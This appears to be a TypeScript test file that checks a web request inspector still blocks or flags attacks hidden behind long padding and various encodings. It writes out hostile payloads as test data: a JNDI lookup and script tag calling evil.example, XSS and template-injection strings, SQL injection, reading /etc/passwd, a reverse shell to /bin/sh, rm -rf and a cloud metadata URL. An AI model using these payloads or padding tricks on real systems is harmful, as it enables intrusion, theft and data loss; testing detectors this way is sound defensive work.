import { expect, test } from 'vitest'
import { inspectBody } from '../support/inspect.ts'

// Whatever a detector bounds so that its cost stays linear, an attacker can use up first: what stands behind must be found.

const JNDI = '$' + '{jndi:ldap://evil.example/a}'
const SCRIPT = '<script src=//evil.example/x.js></script>'

test.each<[string, string]>([
  ['tags within the attributes of tags', `${'x=1<p '.repeat(3_000)}${SCRIPT}`],
  ['tags within quoted attributes', `${"<p x='<p '".repeat(2_000)}${SCRIPT}`],
  ['tags that load something, there', `${'x=1<p '.repeat(3_000)}<iframe srcdoc=x>`],
  ['attributes that are no handlers', `${'on=1 '.repeat(3_000)}<img src=x onerror=alert(1)>`],
  ['comments that don’t end', `${'<!--'.repeat(3_000)}${SCRIPT}`],
  ['styles that don’t end', `${'<style>'.repeat(500)}${SCRIPT}`],
  ['a quote that doesn’t end', `${'<a b="'.repeat(2_001)}${SCRIPT}`],
  ['brackets', `${'[]['.repeat(2_000)}${SCRIPT}`],
  ['code in sentences', `${'We said eval("x") and it was eval("y"). '.repeat(20)}'; system('id'); //`],
  ['lookups that don’t end', `${'$'}${'{a$'.repeat(40)}{a${JNDI}`],
  ['a lookup with much in it', `${'$'}{lower:${'a'.repeat(200)}${JNDI}}`],
  ['expressions that don’t end', `${'{{'.repeat(50)}''.__class__.__mro__}}`],
  ['an expression of many tokens', `{{ ${'1,'.repeat(300)} ''.__class__.__mro__[1].__subclasses__() }}`],
  [
    'prose that sounds like SQL',
    `${'select a plan from the list and '.repeat(200)}x' union select password from users-- `,
  ],
  ['apostrophes', `${"it's ".repeat(3_000)}' or '1'='1`],
  ['separators', `${'a;b '.repeat(3_000)};cat /etc/passwd`],
  ['a long path', `${'x/'.repeat(5_000)}../../../../etc/passwd`],
  ['URLs', `${'http://a.example '.repeat(900)}http://169.254.169.254/latest/meta-data/`],
])('behind %s', async (_name, value) => {
  const { verdict } = await inspectBody([Buffer.from(JSON.stringify({ note: value }))], { type: 'application/json' })
  expect(verdict.status).toBe(403)
})

const IMAGE = '<img src=x onerror=alert(1)>'

// Once detectors have read that much, a value is looked at in fewer of the forms that it decodes to.
test.each<[string, string]>([
  ['as it is', IMAGE],
  ['percent-encoded', encodeURIComponent(IMAGE)],
  ['percent-encoded twice', encodeURIComponent(encodeURIComponent(IMAGE))],
  ['in entities', IMAGE.replaceAll('<', '&lt;')],
  ['in entities that are percent-encoded', encodeURIComponent(IMAGE.replaceAll('<', '&lt;'))],
  ['in JavaScript’s escapes', IMAGE.replaceAll('<', '\\u003c')],
  ['in base64', Buffer.from(IMAGE).toString('base64')],
])('behind values that are dear to look at: %s', async (_name, value) => {
  const dear = '%26lt;%00`.env(`$(${wget {{'.repeat(40)
  const body = { notes: Array(400).fill(dear), note: value }
  const { findings } = await inspectBody([Buffer.from(JSON.stringify(body))], {
    type: 'application/json',
    policy: { mode: 'monitor' },
  })
  expect(findings.filter(({ path, class: kind }) => path[0] === 'note' && kind === 'xss')).not.toEqual([])
})

/** Harmless alone, and dear: it wakes most detectors, and decodes. */
const HARMLESS = "Tom & Jerry's tea (50%41) {x} <b>we</b> liked; ".repeat(700)

// Of these the next decoding that could be done hides what a server's one has shown.
test.each<[string, string]>([
  ['a backslash that a shell drops', ';\\n\\c -e /bin/sh 192.0.2.3 4444'],
  ['a command split by one', 'x;\\r\\m -rf /tmp'],
  ['a share of another machine', '\\\\192.0.2.1\\x\\f.exe'],
  ['steps of Windows', '..\\..\\..\\test\\notes.txt'],
  ['quotes that are encoded in it', "%27%27' union select a,b from users -- "],
  ['ticks that are encoded in it', 'some words in a plain sentence %60<img src=x onerror=alert(1)>%60 here'],
])('behind values that are dear to look at, decoded once: %s', async (_name, attack) => {
  const once = [Buffer.from(attack).toString('base64'), Buffer.from(attack).toString('hex'), encodeURIComponent(attack)]
  for (const note of [attack, ...once]) {
    const { verdict } = await inspectBody([Buffer.from(JSON.stringify({ p: HARMLESS, note }))], {
      type: 'application/json',
    })
    expect([note, verdict.status]).toEqual([note, 403])
  }
  const { verdict } = await inspectBody([Buffer.from(JSON.stringify({ p: HARMLESS }))], { type: 'application/json' })
  expect(verdict.status).toBe(0)
})
